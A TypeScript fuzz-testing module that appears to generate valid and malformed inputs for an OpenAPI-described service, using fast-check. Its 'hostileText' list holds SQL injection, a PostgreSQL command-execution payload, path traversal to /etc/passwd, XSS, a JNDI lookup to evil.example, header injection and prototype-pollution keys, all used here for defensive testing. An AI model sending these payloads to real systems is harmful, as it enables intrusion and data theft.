import fc from "fast-check";
import type { FuzzOperation, JsonSchema, Parameter } from "./openapi-operations.ts";

/**
 * Inputs for one operation, from the JSON schemas of the OpenAPI document: values of the right shape
 * (for the keywords the document uses: type, properties, required, anyOf of required, additionalProperties,
 * items, minItems, maxItems, minLength, maxLength, pattern, format, enum, const, minimum, maximum), and
 * mutations of them that the spec says must be refused before the operation runs.
 */

/** Real values by property name (request ids, flow secrets, link codes, card ids…), so some inputs reach real rows. */
export type KnownValues = Readonly<Record<string, readonly string[]>>;

/** A request body as sent: the bytes and the Content-Type header (absent when undefined). */
export interface BodyInput {
  bytes: Buffer;
  contentType: string | undefined;
}

/** How a counterexample prints a body: its text (cut when long), not a list of byte values. */
function printable(input: BodyInput): BodyInput {
  return Object.assign(input, {
    [fc.toStringMethod]: () => {
      const text = input.bytes.toString("utf8");
      const shown = text.length > 400 ? `${text.slice(0, 400)}… (${input.bytes.length} bytes)` : text;
      return `{ contentType: ${JSON.stringify(input.contentType)}, body: ${JSON.stringify(shown)} }`;
    },
  });
}

/** Text a store can keep that attacks whatever reads it: SQL, JSON, paths, markup, Unicode edge cases. */
export const hostileText: readonly string[] = [
  "'; DROP TABLE gate.requests; --",
  "' OR '1'='1",
  '" OR ""="',
  "1; SELECT pg_sleep(10)",
  "$$; COPY (SELECT 1) TO PROGRAM 'id'; $$",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "..\\..\\windows\\win.ini",
  "/dev/zero",
  '{"$ne": null}',
  '"},"admin":true,"x":{"',
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a log-injection attack, not a template.
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "%s%s%s%n",
  "\u202egnp.exe\u202c",
  "\u200f\u200e\u2066\u2069",
  "\ufeffBOM",
  "e\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "\uffff\ufffe",
  "İıſK",
  "Ａｄｍｉｎ",
  "\r\nX-Injected: yes",
  "\t",
  " ",
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e309",
  "__proto__",
  "constructor",
  "ß".repeat(300),
  "x".repeat(10_000),
  "é".repeat(5_000),
];

/** Text no store can keep (PostgreSQL refuses NUL; an unpaired surrogate is not Unicode): always invalid input. */
const unstorableText: readonly string[] = ["a\u0000b", "\u0000", "\ud800", "x\udfffy"];

const typesOf = (schema: JsonSchema): string[] =>
  schema.type === undefined ? [] : Array.isArray(schema.type) ? schema.type : [schema.type];

/** The length bounds of a string, checked both in UTF-16 units and in code points, so either reading of them holds. */
const fitsLength = (schema: JsonSchema) => (value: string) =>
  value.length <= (schema.maxLength ?? Number.POSITIVE_INFINITY) && [...value].length >= (schema.minLength ?? 0);

function validString(schema: JsonSchema, name: string, known: KnownValues): fc.Arbitrary<string> {
  if (schema.enum) return fc.constantFrom(...schema.enum.filter((v): v is string => typeof v === "string"));
  if (typeof schema.const === "string") return fc.constant(schema.const);
  const pattern = schema.pattern === undefined ? undefined : new RegExp(schema.pattern);
  const fits = (value: string) => fitsLength(schema)(value) && (pattern === undefined || pattern.test(value));
  const maxLength = Math.min(schema.maxLength ?? 80, 80);
  const base =
    schema.format === "uri"
      ? fc.webUrl({ withQueryParameters: true })
      : pattern !== undefined
        ? fc.stringMatching(pattern)
        : schema.format === "uuid"
          ? fc.uuid()
          : schema.format === "email"
            ? fc.emailAddress()
            : schema.format === "date-time"
              ? fc
                  .date({ min: new Date("2000-01-01"), max: new Date("2100-01-01"), noInvalidDate: true })
                  .map((d) => d.toISOString())
              : fc.string({ unit: "grapheme", minLength: schema.minLength ?? 0, maxLength });
  const choices: fc.WeightedArbitrary<string>[] = [{ arbitrary: base.filter(fits), weight: 4 }];
  const hostile = pattern === undefined && schema.format === undefined ? hostileText.filter(fits) : [];
  if (hostile.length > 0) choices.push({ arbitrary: fc.constantFrom(...hostile), weight: 2 });
  const real = (known[name] ?? []).filter(fits);
  if (real.length > 0) choices.push({ arbitrary: fc.constantFrom(...real), weight: 4 });
  return fc.oneof(...choices);
}

function validInteger(schema: JsonSchema, name: string): fc.Arbitrary<number> {
  // A held long-poll only waits; the run's time goes to inputs, so a valid wait is short.
  if (name === "wait_seconds") return fc.oneof({ arbitrary: fc.constant(0), weight: 9 }, fc.constant(1));
  const min = Math.max(schema.minimum ?? -(2 ** 31), Number.MIN_SAFE_INTEGER);
  const max = Math.min(schema.maximum ?? 2 ** 31 - 1, Number.MAX_SAFE_INTEGER);
  return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min, max));
}

/** Any JSON value, with hostile strings among the leaves and keys. */
const jsonLeaf = fc.oneof(fc.string(), fc.constantFrom(...hostileText), fc.integer(), fc.double(), fc.boolean());
const anyJson = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    jsonLeaf,
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.string(), fc.constantFrom(...hostileText)), tie("value"), { maxKeys: 4 }),
  ),
})).value;

function validValue(schema: JsonSchema, name: string, known: KnownValues): fc.Arbitrary<unknown> {
  const types = typesOf(schema);
  const choices: fc.Arbitrary<unknown>[] = [];
  for (const type of types) {
    if (type === "string") choices.push(validString(schema, name, known));
    else if (type === "integer") choices.push(validInteger(schema, name));
    else if (type === "number") choices.push(fc.double({ noNaN: true, noDefaultInfinity: true }));
    else if (type === "boolean") choices.push(fc.boolean());
    else if (type === "null") choices.push(fc.constant(null));
    else if (type === "array")
      choices.push(
        fc.array(validValue(schema.items ?? {}, name, known), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.min(schema.maxItems ?? 5, 5),
        }),
      );
    else if (type === "object") choices.push(validObject(schema, known));
  }
  if (choices.length === 0) {
    if (schema.enum) return fc.constantFrom(...schema.enum);
    if (schema.const !== undefined) return fc.constant(schema.const);
    return anyJson;
  }
  return fc.oneof(...choices);
}

/** The required names of an object: its own, plus one branch of an `anyOf` of required lists (`gate` or `scope`). */
const requiredBranches = (schema: JsonSchema): string[][] => {
  const own = schema.required ?? [];
  const branches = (schema.anyOf ?? []).map((branch) => branch.required ?? []).filter((r) => r.length > 0);
  return branches.length === 0 ? [own] : branches.map((branch) => [...own, ...branch]);
};

function validObject(schema: JsonSchema, known: KnownValues): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  if (Object.keys(properties).length === 0)
    return schema.additionalProperties
      ? fc.dictionary(fc.oneof(fc.string(), fc.constantFrom(...hostileText)), anyJson, { maxKeys: 5 })
      : fc.constant({});
  const model = Object.fromEntries(
    Object.entries(properties).map(([name, property]) => [name, validValue(property, name, known)]),
  );
  return fc.constantFrom(...requiredBranches(schema)).chain((requiredKeys) => fc.record(model, { requiredKeys }));
}

/** An object of the right shape with its required fields only. */
function validRequiredOnly(schema: JsonSchema, known: KnownValues): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  return fc
    .constantFrom(...requiredBranches(schema))
    .chain((required) =>
      fc.record(Object.fromEntries(required.map((name) => [name, validValue(properties[name] ?? {}, name, known)]))),
    );
}

/** A value of another JSON type than every type the schema allows (never null: an absent optional field may read it so). */
function wrongType(schema: JsonSchema): fc.Arbitrary<unknown> | undefined {
  const types = typesOf(schema);
  const candidates: [string, unknown][] = [
    ["string", "not-this-type"],
    ["integer", 7],
    ["number", 1.5],
    ["boolean", true],
    ["object", { a: 1 }],
    ["array", [1, "two"]],
  ];
  // 7 is a number as well as an integer; 1.5 is a number but not an integer, so it is wrong for an integer field.
  const allowed = (type: string) => types.includes(type) || (type === "integer" && types.includes("number"));
  const wrong = candidates.filter(([type]) => !allowed(type)).map(([, value]) => value);
  return types.length === 0 || wrong.length === 0 ? undefined : fc.constantFrom(...wrong);
}

/** Values of the right JSON type that break one of the schema's bounds. */
function outOfBounds(schema: JsonSchema): fc.Arbitrary<unknown> | undefined {
  const types = typesOf(schema);
  const values: fc.Arbitrary<unknown>[] = [];
  if (types.includes("string")) {
    if (schema.maxLength !== undefined && schema.maxLength < 60_000)
      values.push(fc.integer({ min: 1, max: 50 }).map((extra) => "y".repeat((schema.maxLength ?? 0) + extra)));
    if ((schema.minLength ?? 0) > 1) values.push(fc.constant("y".repeat((schema.minLength ?? 1) - 1)));
    if (schema.enum) values.push(fc.string({ maxLength: 10 }).map((s) => `not-an-enum-value-${s}`));
    if (schema.pattern !== undefined || schema.format === "uuid") {
      const pattern = schema.pattern === undefined ? undefined : new RegExp(schema.pattern);
      // A value of a fitting length the pattern does not match: "~" breaks most, blanks a "not blank" one.
      const broken = ["~", " "]
        .map((unit) => unit.repeat(Math.max(schema.minLength ?? 1, 1)))
        .find((value) => pattern === undefined || !pattern.test(value));
      if (broken !== undefined) values.push(fc.constant(broken));
    }
    values.push(fc.constantFrom(...unstorableText));
  }
  if (types.includes("integer")) {
    if (schema.maximum !== undefined && schema.maximum < Number.MAX_SAFE_INTEGER)
      values.push(fc.constant(schema.maximum + 1));
    if (schema.minimum !== undefined && schema.minimum > Number.MIN_SAFE_INTEGER)
      values.push(fc.constant(schema.minimum - 1));
    values.push(fc.constantFrom(0.5, 1e300));
  }
  if (types.includes("array")) {
    if (schema.maxItems !== undefined)
      values.push(fc.constant(Array.from({ length: schema.maxItems + 1 }, () => ({}))));
    if ((schema.minItems ?? 0) > 0) values.push(fc.constant([]));
  }
  return values.length === 0 ? undefined : fc.oneof(...values);
}

const json = (value: unknown) => Buffer.from(JSON.stringify(value));
const jsonBody = (bytes: Buffer): BodyInput => printable({ bytes, contentType: "application/json" });

/** Bodies every operation with a JSON body refuses with a 400, whatever its schema. */
const unreadableBodies: fc.Arbitrary<BodyInput> = fc.oneof(
  fc.constantFrom("[]", "[1,2]", "1", '"text"', "null", "true").map((text) => jsonBody(Buffer.from(text))),
  fc
    .oneof(
      fc.constantFrom("{", "{'a':1}", '{"a":1,}', "NaN", "undefined", "<xml/>", "a=b&c=d", '{"a":"\\x"}'),
      // U+0001 is not JSON whitespace, so nothing after it can make the text JSON.
      fc.string({ maxLength: 60 }).map((rest) => `\u0001${rest}`),
    )
    .map((text) => jsonBody(Buffer.from(text))),
  fc.constant(jsonBody(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]))),
  fc
    .integer({ min: 33, max: 400 })
    .map((depth) => jsonBody(Buffer.from(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`))),
  fc.integer({ min: 1, max: 2000 }).map((extra) => jsonBody(Buffer.from(`{"a":"${"x".repeat(64 * 1024 + extra)}"}`))),
);

/** A JSON object sent under another media type: refused, since only JSON bodies are read. */
const wrongMediaType = fc.constantFrom(
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/xml",
  "application/jsonx",
  "json",
  undefined,
);

/** Bodies of POST operations that the spec says are refused before the operation runs (HTTP 400, or `gate_required`). */
export function refusedBody(operation: FuzzOperation, known: KnownValues): fc.Arbitrary<BodyInput> {
  const schema = operation.body ?? { type: "object" };
  const valid = validObject(schema, known);
  const choices: fc.Arbitrary<BodyInput>[] = [
    unreadableBodies,
    fc
      .tuple(valid, wrongMediaType)
      .map(([object, contentType]) => printable({ bytes: json(object), contentType }))
      // An empty body is `{}` whatever its type; `{}` as text is not empty.
      .filter((input) => input.bytes.length > 0),
  ];
  const properties = Object.entries(schema.properties ?? {});
  const broken: fc.Arbitrary<[string, unknown]>[] = [];
  for (const [name, property] of properties) {
    const wrong = wrongType(property);
    if (wrong) broken.push(wrong.map((value) => [name, value] as [string, unknown]));
    const bound = outOfBounds(property);
    if (bound) broken.push(bound.map((value) => [name, value] as [string, unknown]));
  }
  // The broken field beside the required ones only: an old name loses to its new one when both are sent
  // (the spec's "new wins"), so a broken alias next to a valid new name would be ignored, not refused.
  const alternatives = (schema.anyOf ?? []).flatMap((branch) => branch.required ?? []);
  if (broken.length > 0)
    choices.push(
      fc.tuple(validRequiredOnly(schema, known), fc.oneof(...broken)).map(([object, [name, value]]) => {
        const copy: Record<string, unknown> = { ...object };
        if (alternatives.includes(name)) for (const other of alternatives) delete copy[other];
        return jsonBody(json({ ...copy, [name]: value }));
      }),
    );
  const branches = requiredBranches(schema);
  const everyRequired = [...new Set(branches.flat())];
  if (everyRequired.length > 0)
    choices.push(
      fc.tuple(valid, fc.constantFrom(...everyRequired)).map(([object, missing]) => {
        const copy: Record<string, unknown> = { ...object };
        delete copy[missing];
        // The names of an anyOf are one field under several names (`gate`, `scope`): without one, drop them all.
        if (alternatives.includes(missing)) for (const name of alternatives) delete copy[name];
        return jsonBody(json(copy));
      }),
    );
  return fc.oneof(...choices);
}

/** Bodies of every kind for the mixed batch: right shape (most), extra fields, refused ones, and raw bytes. */
export function anyBody(operation: FuzzOperation, known: KnownValues): fc.Arbitrary<BodyInput> {
  const valid = validObject(operation.body ?? { type: "object" }, known);
  const extraKeys = fc.oneof(
    fc.constantFrom("__proto__", "constructor", "prototype", "toString", "scope", "enroll", "$where"),
    fc.string({ maxLength: 20 }),
  );
  return fc.oneof(
    { arbitrary: valid.map((object) => jsonBody(json(object))), weight: 6 },
    {
      arbitrary: fc
        .tuple(valid, fc.dictionary(extraKeys, anyJson, { minKeys: 1, maxKeys: 4 }))
        .map(([object, extra]) => jsonBody(json({ ...extra, ...object }))),
      weight: 2,
    },
    {
      arbitrary: valid.map((object) =>
        printable({ bytes: json(object), contentType: "application/json; charset=utf-8" }),
      ),
      weight: 1,
    },
    { arbitrary: refusedBody(operation, known), weight: 3 },
    { arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => jsonBody(Buffer.from(bytes))), weight: 1 },
    { arbitrary: fc.constant(printable({ bytes: Buffer.alloc(0), contentType: undefined })), weight: 1 },
  );
}

const encode = (pairs: readonly (readonly [string, string])[]) =>
  pairs.length === 0 ? "" : `?${pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join("&")}`;

function validQueryPairs(parameters: readonly Parameter[], known: KnownValues): fc.Arbitrary<[string, string][]> {
  const query = parameters.filter((p) => p.in === "query");
  const model = Object.fromEntries(query.map((p) => [p.name, validValue(p.schema, p.name, known).map(String)]));
  return fc
    .record(model, { requiredKeys: query.filter((p) => p.required).map((p) => p.name) })
    .map((record) => Object.entries(record) as [string, string][]);
}

/** Query strings of GET operations refused before the operation runs. */
export function refusedQuery(operation: FuzzOperation, known: KnownValues): fc.Arbitrary<string> {
  const valid = validQueryPairs(operation.parameters, known);
  const garbled = fc.constantFrom("%FF", "%C3%28", "%zz", "%", "%E0%80%AF", "%ED%A0%80");
  const names = [...operation.parameters.filter((p) => p.in === "query").map((p) => p.name), "x"];
  const choices: fc.Arbitrary<string>[] = [
    fc
      .tuple(valid, fc.constantFrom(...names), garbled)
      .map(([pairs, name, bad]) => `${encode(pairs) || "?"}${pairs.length > 0 ? "&" : ""}${name}=${bad}`),
  ];
  const broken: fc.Arbitrary<[string, string]>[] = [];
  for (const parameter of operation.parameters.filter((p) => p.in === "query")) {
    const types = typesOf(parameter.schema);
    if (types.includes("integer"))
      broken.push(fc.constantFrom("abc", "1.5", "1e400", "--1").map((v) => [parameter.name, v] as [string, string]));
    const bound = outOfBounds(parameter.schema);
    if (bound)
      broken.push(
        bound
          // A query value is text: an unpaired surrogate cannot be percent-encoded (the garbled escapes cover it).
          .filter((v) => (typeof v === "string" && v.isWellFormed()) || typeof v === "number")
          .map((v) => [parameter.name, String(v)] as [string, string]),
      );
  }
  const required = operation.parameters.filter((p) => p.in === "query" && p.required).map((p) => p.name);
  // Beside the required parameters only, as for bodies: a broken old name next to its new one is ignored.
  if (broken.length > 0)
    choices.push(
      fc.tuple(valid, fc.oneof(...broken)).map(([pairs, [name, value]]) => {
        const rest = pairs.filter(([k]) => k !== name && required.includes(k));
        return encode([...rest, [name, value]]);
      }),
    );
  if (required.length > 0)
    choices.push(
      fc
        .tuple(valid, fc.constantFrom(...required))
        .map(([pairs, missing]) => encode(pairs.filter(([k]) => k !== missing))),
    );
  return fc.oneof(...choices);
}

/** Query strings of every kind for the mixed batch: right shape (most), repeated and unknown parameters, refused ones. */
export function anyQuery(operation: FuzzOperation, known: KnownValues): fc.Arbitrary<string> {
  const valid = validQueryPairs(operation.parameters, known);
  const extra = fc.tuple(
    fc.oneof(fc.constantFrom("__proto__", "constructor", "scope", "gate", "status"), fc.string({ maxLength: 12 })),
    fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom(...hostileText.filter((t) => t.length < 400))),
  );
  return fc.oneof(
    { arbitrary: valid.map(encode), weight: 6 },
    {
      arbitrary: fc
        .tuple(valid, fc.array(extra, { minLength: 1, maxLength: 3 }))
        .map(([pairs, more]) => encode([...pairs, ...more])),
      weight: 2,
    },
    { arbitrary: valid.map((pairs) => encode([...pairs, ...pairs])), weight: 1 },
    { arbitrary: refusedQuery(operation, known), weight: 3 },
  );
}

/** A path with its template parameters filled in (encoded, so a hostile value stays inside its segment). */
export function pathArbitrary(
  operation: FuzzOperation,
  known: KnownValues,
  mode: "any" | "refused",
): fc.Arbitrary<string> {
  const params = operation.parameters.filter((p) => p.in === "path");
  if (params.length === 0) return fc.constant(operation.fullPath);
  const model = Object.fromEntries(
    params.map((p) => [
      p.name,
      mode === "refused"
        ? fc.oneof(fc.constantFrom(...hostileText, "~"), fc.string({ maxLength: 40 })).filter((v) => {
            if (encodeURIComponent(v).length >= 2000) return false;
            const pattern = p.schema.pattern === undefined ? undefined : new RegExp(p.schema.pattern);
            return pattern !== undefined && !pattern.test(v);
          })
        : fc.oneof(
            validValue(p.schema, p.name, known).map(String),
            // A target past Node's header limit is the parser's case (parser-errors.test.ts), not the route's.
            fc.constantFrom(...hostileText.filter((text) => encodeURIComponent(text).length < 2000)),
          ),
    ]),
  );
  return fc
    .record(model)
    .map((values) =>
      Object.entries(values).reduce(
        (path, [name, value]) => path.replace(`{${name}}`, encodeURIComponent(String(value))),
        operation.fullPath,
      ),
    );
}
